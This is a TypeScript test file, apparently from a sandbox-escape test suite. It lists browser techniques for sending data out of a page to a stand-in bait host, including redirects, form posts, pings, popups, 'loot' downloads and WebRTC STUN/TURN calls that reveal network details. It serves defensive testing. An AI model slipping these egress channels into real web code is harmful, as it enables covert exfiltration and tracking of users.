// Attacks that try to take the window elsewhere, to open another, to save a file, or to reach the network below HTTP.
import type { Attack } from '../attacks.ts';

export const wayAttacks: readonly Attack[] = [
  { name: 'location', run: (bait) => location.assign(bait.http) },
  {
    name: 'location to a file',
    run: (bait) => location.assign(bait.file),
    unseen: 'this one is seen by the address of the window',
  },
  {
    name: 'reload',
    unseen: 'a plain window reloads, and is then as it was',
    run: async () => {
      Reflect.set(globalThis, 'beforeReload', true);
      location.reload();
      await new Promise((resolve) => setTimeout(resolve, 600));
      return !Reflect.has(globalThis, 'beforeReload');
    },
  },
  {
    name: 'meta refresh',
    run: (bait) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${bait.http}`;
      document.head.append(meta);
    },
  },
  {
    name: 'link',
    run: (bait) => {
      const link = document.createElement('a');
      link.href = bait.http;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'link with a ping',
    run: (bait) => {
      const link = document.createElement('a');
      link.href = '#nowhere';
      link.ping = bait.http;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'navigation of a frame',
    run: (bait) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow?.location.replace(bait.http);
    },
  },
  {
    name: 'form by POST',
    run: (bait) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = bait.http;
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'form into a frame',
    run: (bait) => {
      const frame = document.createElement('iframe');
      frame.name = 'hidden';
      const form = document.createElement('form');
      form.target = 'hidden';
      form.action = bait.http;
      document.body.append(frame, form);
      form.submit();
    },
  },
  {
    name: 'form into a new window',
    run: (bait) => {
      const form = document.createElement('form');
      form.target = '_blank';
      form.action = bait.http;
      document.body.append(form);
      form.submit();
    },
  },
  { name: 'window.open', run: (bait) => window.open(bait.http) !== null },
  { name: 'window.open of nothing', run: () => window.open('about:blank') !== null },
  { name: 'window.open of our own page', run: () => window.open(location.href, '_blank', 'popup') !== null },
  {
    name: 'link to a new window',
    run: (bait) => {
      const link = document.createElement('a');
      link.href = bait.http;
      link.target = '_blank';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'download of a page',
    run: (bait) => {
      const link = document.createElement('a');
      link.href = bait.http;
      link.download = 'loot.txt';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'STUN by WebRTC',
    run: async (bait) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: bait.stun }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
  },
  {
    name: 'TURN over TCP by WebRTC',
    run: async (bait) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: bait.turn, username: 'loot', credential: 'x' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
  },
  {
    name: 'name lookup by WebRTC',
    unseen: 'such a lookup does not stand in the record of Chromium',
    run: async (bait) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${bait.host}:3478` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
  },
  {
    name: 'addresses of this machine by WebRTC',
    run: async () => {
      const peer = new RTCPeerConnection();
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return /^a=candidate/m.test(peer.localDescription?.sdp ?? '');
    },
  },
  {
    name: 'payment manifest',
    unseen: 'Electron has no payment handlers',
    run: async (bait) => {
      const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
      await new PaymentRequest([{ supportedMethods: bait.http }], { total }).canMakePayment();
    },
  },
];
